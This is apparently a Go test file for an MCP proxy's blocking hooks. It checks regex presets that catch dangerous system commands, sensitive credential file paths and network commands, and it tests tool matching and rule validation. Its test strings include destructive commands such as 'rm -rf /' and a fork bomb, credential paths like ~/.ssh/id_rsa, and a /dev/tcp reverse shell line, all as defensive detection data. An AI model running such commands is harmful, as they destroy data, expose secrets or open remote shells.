package hooks_test

import (
	"context"
	"regexp"
	"testing"

	"github.com/mcpctl/mcpctl/runtime/proxy/internal/hooks"
	"github.com/mcpctl/mcpctl/test/require"
)

// TestPresets: each preset finds what it is for, and not what looks like it.
func TestPresets(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct{ finds, leaves []string }{
		"system-commands": {
			[]string{
				"rm -rf /", "rm -fr build", "rm -v -rf x", "cd /tmp && rm -rf *", "rm --recursive dir", "sudo apt install x", "ls; sudo su", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda",
				"shutdown -h now", "reboot", "chmod 777 /etc", "chmod -R 0777 .", "chmod a+rwx x", "chown -R root /x", "kill -9 1", "killall -9 x", "crontab -r", "useradd eve", "passwd root",
				":(){ :|:& };:", "echo x > /dev/sda", "x | tee /dev/nvme0n1", "/bin/rm -rf /", "$(rm -rf .)", "`sudo id`", "FORMAT C: /q", "del /s /q *",
			},
			[]string{
				"rm file.txt", "remove the -rf flag from docs", "the form -rf", "pseudo code", "chmod 644 x", "chmod +x run.sh", "kill 12", "perform -rfx", "add a user", "information: c", "rebooting was needed", "dd if=a of=b", "cat x > y",
				"a del-icious pie", "skill -9", "list /dev/sda",
			},
		},
		"sensitive-files": {
			[]string{
				"/etc/passwd", "/etc/shadow", "cat ../../etc/passwd", "~/.ssh/id_rsa", "/home/a/.ssh/config", "/home/a/.ssh", "id_ed25519", "C:\\Users\\a\\.aws\\credentials", "~/.aws/credentials", "/root/.kube/config",
				".env", "app/.env", "app/.env.production", "~/.netrc", ".npmrc", "/proc/self/environ", "/proc/12/environ", "server.pem", "a/keys.p12", "~/.gnupg/x", ".git-credentials", "~/.docker/config.json", "C:\\Windows\\System32\\config\\SAM",
			},
			[]string{
				"/etc/hosts", "README.md", "environment", "process.env.HOME", ".env.example", "passwd.go", "docs/ssh.md", "src/id_rsa_test_names.go_", "credentials.md", "kube/config", "the pemmican", "etc/password-policy", ".environment",
			},
		},
		"network-commands": {
			[]string{
				"curl https://example.com", "curl -d @x https://e", "wget http://x", "x; wget -q y", "nc -l 4444", "ncat host 1", "scp a b:c", "rsync -a . h:", "ssh user@host", "ssh -N x", "ssh host.example.com", "nmap -sS h", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "Invoke-WebRequest http://x",
				"socat TCP:x -", "cat x | curl -T - u", "/usr/bin/curl x", "telnet h 25", "iwr http://x",
			},
			[]string{
				"use curly braces", "the wgets", "function call", "sync the files", "openssh", "concat a b", "an ssh key", "use ssh here", "transfer", "curl", "a fence post", "https://example.com/curl",
			},
		},
	} {
		pattern := regexp.MustCompile(hooks.Presets()[name])
		for _, text := range row.finds {
			if !pattern.MatchString(text) {
				t.Errorf("%s does not find %q", name, text)
			}
		}
		for _, text := range row.leaves {
			if pattern.MatchString(text) {
				t.Errorf("%s finds %q", name, text)
			}
		}
		_, err := hooks.NewMatch(hooks.Rule{Name: name, In: hooks.InArguments, Pattern: pattern, Action: hooks.Block})
		require.NoError(t, err)
	}
	if n := len(hooks.Presets()); n != 3 {
		t.Errorf("%d presets", n)
	}
}

// TestTools: which tools a rule wants.
func TestTools(t *testing.T) {
	t.Parallel()
	for _, row := range []struct {
		tools []string
		name  string
		want  bool
	}{
		{nil, "gh__get", true},
		{[]string{"*"}, "gh__get", true},
		{[]string{"gh__*"}, "gh__get", true},
		{[]string{"gh__*"}, "fs__get", false},
		{[]string{"!gh__get"}, "gh__get", false},
		{[]string{"!gh__get"}, "gh__put", true},
		{[]string{"!gh__get_*", "gh__*"}, "gh__get_x", false},
		{[]string{"gh__*", "!gh__get_*"}, "gh__put", true},
		{[]string{"fs__x", "gh__put"}, "gh__put", true},
	} {
		h, err := hooks.NewMatch(hooks.Rule{Name: "r", Tools: row.tools, In: hooks.InResult, Pattern: regexp.MustCompile("x"), Action: hooks.Block})
		require.NoError(t, err)
		if got := h.Wants(hooks.Target{Server: "s", Tool: "t", Exposed: row.name}) != 0; got != row.want {
			t.Errorf("%v, %s: got %t", row.tools, row.name, got)
		}
		if h.Wants(hooks.Target{Server: "s"}) != hooks.PhaseResponse {
			t.Errorf("%v: a task of an unknown tool is not looked at", row.tools)
		}
	}
}

// TestWrongRules are refused, and so are hooks without a name of their own.
func TestWrongRules(t *testing.T) {
	t.Parallel()
	x := regexp.MustCompile("x")
	for _, r := range []hooks.Rule{
		{},
		{In: hooks.InResult, Pattern: regexp.MustCompile("x*"), Action: hooks.Block},
		{In: "params", Pattern: x, Action: hooks.Block},
		{In: hooks.InResult, Pattern: x, Action: "drop"},
	} {
		if _, err := hooks.NewMatch(r); err == nil {
			t.Errorf("%+v is taken", r)
		}
	}
	h, err := hooks.NewMatch(hooks.Rule{In: hooks.InResult, Pattern: x, Action: hooks.Block})
	require.NoError(t, err)
	var reg hooks.Registry
	for _, all := range [][]hooks.Named{{{Name: "a"}}, {{Hook: h}}, {{Name: "a b", Hook: h}}, {{Name: "a", Hook: h}, {Name: "a", Hook: h}}} {
		if reg.Replace(all) == nil || reg.Now() != nil {
			t.Errorf("%v are taken", all)
		}
	}
	require.NoError(t, reg.Replace([]hooks.Named{{Name: "a", Hook: h}}))
	if reg.Now().Of("s", "t", "s__t", nil) == nil || (*hooks.Registry)(nil).Now().Of("s", "t", "s__t", nil) != nil {
		t.Error("the hooks are not those that count")
	}
}

// TestEmptyMatches: a pattern that can match nothing at some places finds characters alone.
func TestEmptyMatches(t *testing.T) {
	t.Parallel()
	h, err := hooks.NewMatch(hooks.Rule{Name: "r", In: hooks.InArguments, Pattern: regexp.MustCompile(`\b`), Action: hooks.Block})
	require.NoError(t, err)
	if err := h.Request(context.Background(), &hooks.Call{Params: []byte(`{"name":"x","arguments":{"a":"b"}}`)}); err != nil {
		t.Error(err)
	}
}
